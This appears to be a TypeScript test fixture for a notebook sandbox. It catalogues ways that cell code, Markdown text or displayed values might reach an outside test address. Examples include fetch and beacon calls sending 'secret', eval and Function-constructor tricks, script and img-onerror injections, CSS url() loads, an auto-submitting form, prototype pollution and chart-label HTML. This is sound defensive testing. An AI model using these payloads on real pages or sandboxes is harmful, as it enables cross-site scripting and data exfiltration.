/**
 * Ways out of a cell by its code: expressions that throw, or reject, where the way is shut, or at whose address something
 * arrives where it is open. They find `away`, an address of their own at a server that answers anybody, and `tf`.
 */
export const BY_CODE: Record<string, string> = {
  // the network
  fetch: 'fetch(away)',
  'fetch with data': "fetch(away, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' })",
  'fetch of the workbench': "fetch('/')",
  XMLHttpRequest:
    'new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open("GET", away); r.send() })',
  'XMLHttpRequest that waits': "(() => { const r = new XMLHttpRequest(); r.open('GET', away, false); r.send() })()",
  WebSocket:
    "new Promise((ok, no) => { const s = new WebSocket(away.replace('http', 'ws')); s.onopen = ok; s.onerror = no })",
  WebSocketStream: "new WebSocketStream(away.replace('http', 'ws')).opened",
  'the host': "new Promise((ok, no) => { const s = new WebSocket('/host'); s.onopen = ok; s.onerror = no })",
  EventSource: 'new Promise((ok, no) => { const s = new EventSource(away); s.onopen = ok; s.onerror = no })',
  WebTransport: "new WebTransport(away.replace('http:', 'https:')).ready",
  sendBeacon: "navigator.sendBeacon(away, 'secret') || Promise.reject()",
  RTCPeerConnection: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] })",
  FontFace: "new FontFace('f', 'url(' + away + 'f.woff2)').load()",
  'a font of a canvas': `(() => { const pen = new OffscreenCanvas(9, 9).getContext('2d'); pen.filter = 'url(' + away + 'f.svg#f)'; pen.fillText('a', 1, 1); throw 0 })()`,
  'the fetch of TensorFlow.js': 'tf.env().platform.fetch(away)',
  'a model from elsewhere': "tf.loadLayersModel(away + 'model.json')",
  'a model sent elsewhere':
    'tf.sequential({ layers: [tf.layers.dense({ units: 1, inputShape: [1] })] }).save(tf.io.http(away))',
  // scripts, and workers of its own
  importScripts: "importScripts(away + 'a.js')",
  import: "new Function('url', 'return import(url)')(away + 'b.js')",
  'import of JSON': `new Function('url', 'return import(url, { with: { type: "json" } })')(away + 'b.json')`,
  'import of data': 'new Function(\'return import("data:text/javascript,1")\')()',
  'import of a blob':
    "new Function('url', 'return import(url)')(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))",
  Worker: `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = ok; w.onerror = no })`,
  'a worker from elsewhere':
    "new Promise((ok, no) => { const w = new Worker(away + 'c.js'); w.onmessage = ok; w.onerror = no })",
  'a worker of data':
    "new Promise((ok, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = ok; w.onerror = no })",
  'a kernel of its own': "new Worker(location.href, { type: 'module' })",
  SharedWorker: "new SharedWorker('/shared.js')",
  ServiceWorker: "navigator.serviceWorker.register('/service.js')",
  sourceMappingURL: "(0, eval)('1\\n//# sourceMappingURL=' + away + 'map').then()",
  // functions made of text
  'constructor of a function': "(() => {}).constructor('url', 'return fetch(url)')(away)",
  'constructor of an async function': "(async () => {}).constructor('url', 'return fetch(url)')(away)",
  'constructor of a generator': "(function* () {}).constructor('url', 'return fetch(url)')(away).next().value",
  'constructor of an async generator': "(async function* () {}).constructor('url', 'yield fetch(url)')(away).next()",
  'constructor.constructor': "[].constructor.constructor('url', 'return this.fetch(url)')(away)",
  eval: "(0, eval)('fetch')(away)",
  'a timer of text':
    "new Promise((ok, no) => { Object.assign(self, { ok, no }); setTimeout('try { fetch(' + JSON.stringify(away) + ').then(ok, no) } catch (error) { no(error) }') })",
  // storage, and other pages
  localStorage: "localStorage.setItem('a', 'b')",
  sessionStorage: "sessionStorage.setItem('a', 'b')",
  cookies: "cookieStore.set('a', 'b')",
  indexedDB: "new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })",
  'a model in IndexedDB':
    "tf.sequential({ layers: [tf.layers.dense({ units: 1, inputShape: [1] })] }).save('indexeddb://x')",
  'a model in localStorage':
    "tf.sequential({ layers: [tf.layers.dense({ units: 1, inputShape: [1] })] }).save('localstorage://x')",
  caches: "caches.open('x')",
  'private files': 'navigator.storage.getDirectory()',
  'private files by a class': 'StorageManager.prototype.getDirectory.call(navigator.storage)',
  buckets: "navigator.storageBuckets.open('x')",
  'a file system': 'webkitRequestFileSystemSync(0, 1)',
  locks: "navigator.locks.request('x', () => 1)",
  permissions: "navigator.permissions.query({ name: 'geolocation' })",
  usb: 'navigator.usb.getDevices()',
  notifications: "new Notification('x')",
  BroadcastChannel: "new BroadcastChannel('x').postMessage(1)",
  // the page
  'messages to the page': 'self.postMessage(new Uint8Array(1))',
  'its window': 'window.document',
  'its parent': 'parent.document',
  'a window': 'open(away)',
  'the end of its worker': 'self.close()',
  'what a worker inherits':
    "(() => { for (let at = self; at; at = Object.getPrototypeOf(at)) for (const name of ['fetch', 'indexedDB', 'caches', 'postMessage']) if (Object.hasOwn(at, name)) return; throw 0 })()",
  'the token':
    '[location.href, name, new Error().stack, ...performance.getEntries().map((entry) => entry.name)].some((text) => /token=/.test(text)) || Promise.reject()',
  'what the page weighs': 'performance.measureUserAgentSpecificMemory()',
  'functions on the stack': `(() => {
    const { prepareStackTrace } = Error
    Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getFunction() ?? site.getThis())
    const { stack } = new Error()
    Error.prepareStackTrace = prepareStackTrace
    if (!stack.some((found) => found && found !== self && !String(found).includes('prepareStackTrace'))) throw 0
  })()`,
  'functions that call it': '(function own() { return own.caller.caller.name })()',
}

/** Those that a worker does not have. They are seen to succeed in a page that nothing holds. */
export const OF_PAGES = [
  ...['sendBeacon', 'RTCPeerConnection', 'a kernel of its own', 'SharedWorker', 'ServiceWorker', 'localStorage'],
  ...['sessionStorage', 'cookies', 'a model in localStorage', 'its window', 'its parent', 'a window'],
]

/** Those that are not seen to succeed: no browser known to us gives these ways, or they would end the worker. */
export const UNSEEN = [
  ...['a font of a canvas', 'a worker from elsewhere', 'sourceMappingURL', 'the end of its worker'],
  ...['the token', 'what the page weighs', 'functions on the stack', 'functions that call it'],
]

/** Those that the policy of the kernel's script knows nothing of: only the doors are shut. */
export const BY_DOORS = [
  ...['indexedDB', 'a model in IndexedDB', 'caches', 'private files', 'private files by a class', 'buckets'],
  ...['a file system', 'locks', 'permissions', 'usb', 'notifications', 'BroadcastChannel', 'messages to the page'],
  'what a worker inherits',
]

const FORMULAS = {
  'link of a formula': String.raw`\href{AWAY}{x}`,
  'address of a formula': String.raw`\url{AWAY}`,
  'picture of a formula': String.raw`\includegraphics{AWAYpicture.png}`,
  'style of a formula': String.raw`\htmlStyle{background: url(AWAYstyle.png)}{x}`,
  'class of a formula': String.raw`\htmlClass{AWAY}{x}`,
}

/** Ways out by a text in Markdown, with `AWAY` for the address. */
export const BY_TEXT: Record<string, string> = {
  link: '[here](AWAYlink "there")',
  'link of an address': 'AWAYbare',
  'link of code': '[here](javascript:fetch("AWAYcode")) [there](data:text/html,<img/src="AWAYdata.png">)',
  picture: '![picture](AWAYpicture.png)',
  'picture by a reference': '![picture][there]\n\n[there]: AWAYreference.png',
  img: '<img src="AWAYimage.png">',
  'img of sizes': '<img srcset="AWAYimage2.png 2x, AWAYimage1.png 1x">',
  'code of an img': `<img src="data:," onerror="fetch('AWAYerror')">`,
  script: '<script src="AWAYscript.js"></script>',
  'script within': `<script>fetch('AWAYinline')</script>`,
  iframe: '<iframe src="AWAYframe"></iframe>',
  'iframe of a text': '<iframe srcdoc="<img src=AWAYsrcdoc.png>"></iframe>',
  object: '<object data="AWAYobject"></object>',
  embed: '<embed src="AWAYembed">',
  video: '<video src="AWAYvideo" poster="AWAYposter.png"></video>',
  audio: '<audio src="AWAYaudio" preload="auto"></audio>',
  'svg image': '<svg><image href="AWAYsvg.png" width="9" height="9"/></svg>',
  'svg code': `<div><svg><script>fetch('AWAYsvgcode')</script></svg></div>`,
  'input image': '<input type="image" src="AWAYinput.png">',
  'style sheet': '<link rel="stylesheet" href="AWAYsheet.css">',
  preload: '<link rel="preload" as="fetch" crossorigin href="AWAYpreload">',
  prefetch: '<link rel="prefetch" href="AWAYprefetch">',
  modulepreload: '<link rel="modulepreload" href="AWAYmodule.js">',
  icon: '<link rel="icon" href="AWAYicon.png">',
  base: '<base href="AWAYbase/"><img src="based.png">',
  'meta refresh': '<meta http-equiv="refresh" content="0; url=AWAYrefresh">',
  '@import': '<style>@import url(AWAYimport.css);</style>',
  'font of a style': '<style>@font-face { font-family: x; src: url(AWAYfont.woff2) } * { font-family: x }</style>',
  'url() of a style': '<b style="background: url(AWAYbackground.png)">b</b>',
  'content of a style': '<style>body::before { content: url(AWAYcontent.png) }</style>',
  ...Object.fromEntries(Object.entries(FORMULAS).map(([name, tex]) => [name, `It is $${tex}$ here.`])),
  form: '<form action="AWAYform"><input name="a" value="secret"></form><script>onload = () => document.forms[0].submit()</script>',
}

/** Those that are not seen to succeed: links wait for the user, and a page leaves for one place alone. */
export const UNSEEN_TEXTS = [
  ...[
    'link',
    'link of an address',
    'link of code',
    'meta refresh',
    'icon',
    'link of a formula',
    'address of a formula',
    'class of a formula',
  ],
]

/** Ways out by what a cell shows: expressions of values, in which `away` is the address. */
export const BY_VALUE: Record<string, string> = {
  'a text of HTML': "'<img src=' + away + 'text.png>'",
  'an element of React':
    "({ $$typeof: Symbol.for('react.transitional.element'), type: 'img', key: null, ref: null, props: { src: away + 'react.png' } })",
  'HTML for React': "({ dangerouslySetInnerHTML: { __html: '<img src=' + away + 'html.png>' } })",
  'a prototype': `JSON.parse('{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": { "polluted": 1 } } }')`,
  'names of prototypes': 'table([JSON.parse(\'{ "__proto__": 1, "constructor": 2 }\')])',
  'a getter': "({ get bad() { throw new Error('got') } })",
  toJSON: '({ toJSON() { return away } })',
  'a proxy': 'new Proxy({}, { get() { throw 0 }, ownKeys() { throw 0 } })',
  'a circle': '(() => { const circle = []; circle.push([circle]); return circle })()',
  depth: '(() => { let deep = {}; for (let i = 0; i < 1e4; i++) deep = { deep }; return deep })()',
  size: "[Array.from({ length: 1e5 }, (_, i) => ({ i })), 'x'.repeat(5e6)]",
  'a picture of a blob':
    "URL.createObjectURL(new Blob(['<script>fetch(`' + away + '`)</script>'], { type: 'text/html' }))",
  'links of a chart': `plot.line({ y: { ['<a href="' + away + '">name</a>']: [1, 2], b: [2, 1] }, title: '<a href="' + away + '">title</a>', xLabel: '<a href="' + away + '" target="_self">x</a>' })`,
  'pictures of a chart': `plot.bar({ y: { ['<img src=' + away + 'name.png>']: [1], ['<image href=' + away + 'svg.png />']: [1] }, title: '<img src=' + away + 'title.png>', yLabel: '<b style="background: url(' + away + ')">y</b>' })`,
  'styles of a chart': `plot.line({ y: { ['<span style="filter: url(' + away + 'f.svg#f)">name</span>']: [1, 2], b: [2, 1] }, title: 't', xLabel: '<b style="cursor: url(' + away + 'cursor.png), auto; mask: url(' + away + 'mask.svg#m)">x</b>' })`,
  'ticks of a chart': `plot.bar({ x: ['<a href="' + away + '">tick</a>', '<style>@import url(' + away + ')</style>'], y: [1, 2] })`,
  'formulas of a chart': `plot.scatter({ y: [1, 2], title: '$\\\\href{' + away + '}{x}$', xLabel: '<iframe src=' + away + '>' })`,
  'links of a table': `table([{ ['<img src=' + away + 'column.png>']: '<a href="' + away + '">cell</a>', link: 'javascript:fetch("' + away + '")' }, { link: away }])`,
}

/** The same by what a kernel sends in the place of a value, with `AWAY` for the address. */
export const BY_VIEW: Record<string, object> = {
  'HTML as a kind': { kind: '<img src=AWAYkind.png>', text: '<script src=AWAYtext.js></script>' },
  'a chart with more than a chart has': {
    kind: 'marks',
    text: '',
    body: {
      type: 'marks',
      mark: 'line',
      title: '<img src=AWAYtitle.png>',
      xLabel: '<a href="AWAY">x</a>',
      note: '<img src=AWAYnote.png>',
      barWidth: null,
      series: [
        {
          name: '<a href="AWAY" xlink:href="AWAY">name</a>',
          x: [1, 2],
          y: [1, 2],
          hovertemplate: '<a href="AWAY">hover</a>',
          marker: { symbol: 'url(AWAY)' },
        },
      ],
      layout: { images: [{ source: 'AWAYlayout.png', sizex: 1, sizey: 1 }], template: { layout: {} } },
      config: { plotlyServerURL: 'AWAY', showEditInChartStudio: true },
    },
  },
  'a table of other things': {
    kind: 'table',
    text: '',
    body: { type: 'table', columns: ['<img src=AWAYcolumn.png>', 'href'], rows: [['AWAY', 'javascript:1']], total: 1 },
  },
  'a tree of HTML': {
    kind: 'object',
    text: '',
    body: { type: 'tree', entries: [{ name: '<img src=AWAYname.png>', text: 'AWAY', href: 'AWAY' }] },
  },
}

/** An address of its own for each way, which says which one it was. */
export const addressOf = (server: string, name: string) => `${server}${name.replace(/\W+/g, '-')}/`

/** Those to which something has arrived, of what a server was asked. */
export function arrivedOf(names: string[], asked: string[]): string[] {
  const paths = asked.map((line) => line.replace(/^[A-Z]+ /, ''))
  return names.filter((name) => paths.some((path) => path.startsWith(addressOf('/', name))))
}

/** Code that tries ways of `BY_CODE`: `reached` gets the names of those that lead out, `tried` are the attempts. */
export function trying(names: string[], server: string): string {
  const attempts = names.map((name) => {
    const away = JSON.stringify(addressOf(server, name))
    return `  ${JSON.stringify(name)}: (away = ${away}) => ${BY_CODE[name]},`
  })
  return `const attempts = {
${attempts.join('\n')}
}
const reached = []
const tried = Object.entries(attempts).map(async ([name, attempt]) => {
  await attempt()
  reached.push(name)
})
`
}

/** Code that shows values of `BY_VALUE`. */
export function showing(names: string[], server: string): string {
  const values = names.map(
    (name) => `display(((away) => ${BY_VALUE[name]})(${JSON.stringify(addressOf(server, name))}))`,
  )
  return `${values.join('\n')}\n`
}

/** A way with the address in its place. */
export function placed<Way>(way: Way, name: string, server: string): Way {
  return JSON.parse(JSON.stringify(way).replaceAll('AWAY', addressOf(server, name)))
}
